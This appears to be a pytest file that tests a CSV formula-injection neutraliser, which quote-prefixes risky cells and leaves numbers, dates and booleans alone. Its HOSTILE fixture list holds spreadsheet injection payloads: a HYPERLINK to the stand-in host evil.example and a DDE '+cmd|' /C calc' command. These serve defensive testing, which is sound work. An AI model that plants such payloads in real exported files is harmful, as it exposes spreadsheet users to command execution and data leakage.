"""CSV cells a spreadsheet would run as formulas are written as text (OWASP's rule);
numbers, dates and booleans stay what they are."""

from __future__ import annotations

import csv
import io
from datetime import date

import numpy as np
import pandas as pd

from smib_core.csvsafe import csv_bytes, neutralise_cell, neutralise_formulas, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x","x")',
    "-2+3",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_every_formula_start_is_prefixed_with_a_quote() -> None:
    frame = pd.DataFrame({"name": [*HOSTILE, "Buffalo 3", "a=b", ""]})
    rows = _cells(csv_bytes(frame))[1:]
    assert [r[0] for r in rows[: len(HOSTILE)]] == ["'" + h for h in HOSTILE]
    assert [r[0] for r in rows[len(HOSTILE) :]] == ["Buffalo 3", "a=b", ""]


def test_numbers_dates_and_missing_values_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "coin in": [-12.5, 3.0],
            "games": pd.array([-1, None], dtype="Int64"),
            "at": pd.to_datetime(["2024-05-13 10:00", "2024-05-13 11:00"]),
            "ok": [True, False],
            "mixed": [np.nan, "-x"],
            "text": pd.Series(["=1", None], dtype="string"),
        }
    )
    rows = _cells(csv_bytes(frame))
    assert rows[1] == ["-12.5", "-1", "2024-05-13 10:00:00", "True", "", "'=1"]
    assert rows[2] == ["3.0", "", "2024-05-13 11:00:00", "False", "'-x", ""]
    assert frame["text"].tolist()[0] == "=1"  # the caller's frame is not changed


def test_a_clean_frame_is_returned_as_it_is() -> None:
    frame = pd.DataFrame({"name": ["Slot 1"], "n": [-3]})
    assert neutralise_formulas(frame) is frame


def test_write_csv_and_single_cells() -> None:
    out = io.StringIO()
    write_csv(pd.DataFrame({"actor": ["@SUM(1)"]}), out, header=False)
    assert out.getvalue() == "'@SUM(1)\r\n"
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell(-5) == -5
    assert neutralise_cell("Slot") == "Slot"


def test_object_columns_without_text_are_left_alone() -> None:
    frame = pd.DataFrame({"day": [date(2024, 5, 13)], "mixed": [date(2024, 5, 13)]})
    frame.loc[1] = [date(2024, 5, 14), "=1+1"]
    rows = _cells(csv_bytes(frame))
    assert rows[1:] == [["2024-05-13", "2024-05-13"], ["2024-05-14", "'=1+1"]]
